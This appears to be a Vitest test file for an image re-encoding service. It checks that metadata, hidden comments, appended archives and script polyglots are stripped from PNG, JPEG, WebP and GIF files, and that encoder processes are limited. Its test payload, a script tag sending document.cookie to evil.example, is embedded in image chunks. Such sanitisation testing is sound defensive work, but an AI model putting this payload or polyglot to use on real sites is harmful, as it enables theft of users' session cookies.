import { inflateSync } from 'node:zlib';
import { afterAll, afterEach, describe, expect, test, vi } from 'vitest';
import { imageTypeOf } from '../../../platform/file/imageType.ts';
import type { Picture } from '../fetchingPicture.ts';
import { cameraOwner, gifOf, jpegSegments, movementOf, movingWebp, plainWebp, pngChunk, pngChunks, pngOfTwoPoints, turnedJpeg, twoPoints, webpChunks } from '../testing/pictures.ts';
import { EncodingRoom } from './encodingRoom.ts';
import { hearEncoder } from './hearingEncoder.ts';
import { PictureEncoder } from './pictureEncoder.ts';
import { mostEncodedBytes, type EncoderAnswer } from './pictureTask.ts';

/** One for the pictures of most tests. */
const room = new EncodingRoom();
afterAll(() => room.close());
const rooms: EncodingRoom[] = [];
const open = (...options: ConstructorParameters<typeof EncodingRoom>): EncodingRoom => {
  const room = new EncodingRoom(...options);
  rooms.push(room);
  return room;
};
afterEach(() => {
  for (const room of rooms.splice(0)) room.close();
});
const pictureOf = (bytes: Buffer): Picture => ({ type: imageTypeOf(bytes) ?? '', bytes });
const encoded = async (room: EncodingRoom, bytes: Buffer): Promise<Picture> => {
  const had = await room.encode(pictureOf(bytes));
  if (typeof had === 'string') throw new Error(had);
  // it is what it says
  expect(imageTypeOf(had.bytes)).toBe(had.type);
  return had;
};

const payload = '<script>fetch("//evil.example/"+document.cookie)</script>';

test('a picture comes out as it looked, made anew: no metadata and nothing that was hidden in its file', async () => {
  const png = await encoded(room, Buffer.concat([pngOfTwoPoints(pngChunk('tEXt', `Comment\0${payload}`), pngChunk('eXIf', `II*\0${payload}`)), Buffer.from(payload)]));
  expect(png.type).toBe('image/png');
  expect(pngChunks(png.bytes).map(({ type }) => type).filter((type) => !['IHDR', 'pHYs', 'IDAT', 'IEND'].includes(type))).toEqual([]);
  expect(inflateSync(Buffer.concat(pngChunks(png.bytes).filter(({ type }) => type === 'IDAT').map(({ content }) => content)))).toEqual(twoPoints);

  // a picture for one program, an archive for another, and what the camera knew
  const archive = Buffer.from('PK\u0003\u0004 evil.html PK\u0005\u0006');
  const hidden = Buffer.concat([turnedJpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, payload.length + 2]), Buffer.from(payload), turnedJpeg.subarray(2), archive]);
  expect(hidden.includes(cameraOwner)).toBe(true);
  const jpeg = await encoded(room, hidden);
  expect(jpeg.type).toBe('image/jpeg');
  // JFIF, tables, frame, scan: no EXIF, no profile, no comment
  expect(jpegSegments(jpeg.bytes).map(({ mark }) => mark).filter((mark) => ![0xffe0, 0xffdb, 0xffc0, 0xffc4, 0xffda].includes(mark))).toEqual([]);

  const webp = await encoded(room, plainWebp);
  expect(webp.type).toBe('image/webp');
  expect(webpChunks(webp.bytes).map(({ type }) => type)).toEqual(['VP8 ']);

  // a GIF that is a script besides
  const gif = await encoded(room, Buffer.concat([gifOf({ side: 8, frames: 1, comment: payload }), Buffer.from(`*/=1;${payload}`)]));
  expect(gif.type).toBe('image/webp');
  expect(webpChunks(gif.bytes).map(({ type }) => type)).toEqual(['VP8L']);

  for (const { bytes } of [png, jpeg, webp, gif]) for (const secret of [payload, 'script', 'evil', 'PK', cameraOwner, 'Exif', 'ICC']) expect(bytes.includes(secret)).toBe(false);
});

test('what a camera says of how it was held is carried out', async () => {
  const { bytes } = await encoded(room, turnedJpeg);
  const frame = jpegSegments(bytes).find(({ mark }) => mark === 0xffc0)?.content ?? Buffer.alloc(0);
  expect({ height: frame.readUInt16BE(1), width: frame.readUInt16BE(3) }).toEqual({ height: 16, width: 8 });
});

test('what moves goes on moving, at its pace and as often', async () => {
  expect(movementOf((await encoded(room, movingWebp)).bytes)).toEqual({ delays: [100, 200, 300], times: 2 });
  expect(movementOf((await encoded(room, gifOf({ side: 8, frames: 3 }))).bytes)).toEqual({ delays: [100, 100, 100], times: 0 });
});

test('a picture that was exact stays exact, whatever it becomes', async () => {
  const { bytes } = await encoded(room, movingWebp);
  expect(webpChunks(bytes).filter(({ type }) => type === 'ANMF').map(({ content }) => content.toString('latin1', 16, 20))).toEqual(['VP8L', 'VP8L', 'VP8L']);
});

const cut = (bytes: Buffer): Buffer => bytes.subarray(0, Math.floor(bytes.length * 0.8));
test.each([
  ['a PNG that breaks off', () => cut(pngOfTwoPoints())], ['a JPEG that breaks off', () => turnedJpeg.subarray(0, turnedJpeg.length - 40)], ['a WebP that breaks off', () => cut(plainWebp)], ['a GIF of which there is only the head', () => gifOf({ side: 8, frames: 1 }).subarray(0, 13)],
  ['what only begins as a picture', () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')])], ['a picture of another kind than its bytes say', () => Buffer.concat([Buffer.from('GIF89a'), turnedJpeg])],
])('%s is no picture, and who found that out stays', async (_, bytes) => {
  await room.open();
  expect(room.size).toBe(1);
  expect(await room.encode(pictureOf(bytes()))).toBe('NO_PICTURE');
  expect(room.size).toBe(1);
});

describe('encoders', () => {
  test('come with the first picture, two at most, and leave when none comes', async () => {
    const own = open(undefined, 200);
    expect(own.size).toBe(0);
    const encoding = Promise.all(Array.from({ length: 5 }, () => encoded(own, pngOfTwoPoints())));
    expect(own.size).toBe(2);
    expect(new Set((await encoding).map(({ type }) => type))).toEqual(new Set(['image/png']));
    await vi.waitUntil(() => own.size === 0, { timeout: 10_000 });
    expect(await encoded(own, pngOfTwoPoints())).toMatchObject({ type: 'image/png' });
  });

  test('that die over a picture say nothing of it, are replaced, and the next picture comes', async () => {
    const made: PictureEncoder[] = [];
    const own = open(() => {
      const encoder = new PictureEncoder();
      made.push(encoder);
      return encoder;
    });
    await encoded(own, pngOfTwoPoints());
    const encoding = own.encode(pictureOf(gifOf({ side: 16, frames: 2_000 })));
    process.kill(made[0]?.pid ?? 0, 'SIGKILL');
    expect(await encoding).toBe('NOT_HAD');
    expect(await encoded(own, pngOfTwoPoints())).toMatchObject({ type: 'image/png' });
    expect(made).toHaveLength(2);
  });

  test('that cannot be started take no seat: as many pictures later there still is one', async () => {
    let refused = 0;
    const own = open(() => {
      if ((refused += 1) <= 3) throw new Error('spawn ENOMEM');
      return new PictureEncoder();
    });
    for (let time = 0; time < 3; time += 1) await expect(own.encode(pictureOf(pngOfTwoPoints()))).rejects.toThrow('ENOMEM');
    expect(own.size).toBe(0);
    expect(await encoded(own, pngOfTwoPoints())).toMatchObject({ type: 'image/png' });
  });

  test.each([['hold', { mostBytes: 20 * 1024 ** 2 }], ['take of the processor', { mostProcessorSeconds: 0.01 }]])('that %s more than they may are ended, and the picture is too large', async (_, limits) => {
    const own = open(() => new PictureEncoder(limits));
    expect(await own.encode(pictureOf(gifOf({ side: 16, frames: 2_000 })))).toBe('TOO_LARGE');
    expect(own.size).toBe(0);
  });

  test('do not begin with what nobody waits for any more', async () => {
    expect(await room.encode(pictureOf(pngOfTwoPoints()), AbortSignal.abort())).toBe('NOT_HAD');
  });

  test('are not believed when they say more than a picture may be, less than they announced, or something else', () => {
    const piece = Buffer.alloc(2);
    expect(() => hearEncoder()({ piece, of: mostEncodedBytes + 1 })).toThrow(RangeError);
    const [more, less] = [hearEncoder(), hearEncoder()];
    more({ piece, of: 3 });
    expect(() => more({ piece, of: 3 })).toThrow(RangeError);
    less({ piece, of: 3 });
    expect(() => less({ encoded: 'image/png' })).toThrow(RangeError);
    expect(() => hearEncoder()({ encoded: 'image/png' })).toThrow(TypeError);
    const page = hearEncoder();
    page({ piece, of: 2 });
    expect(() => page(JSON.parse('{"encoded":"text/html"}') as EncoderAnswer)).toThrow(TypeError);
  });
});
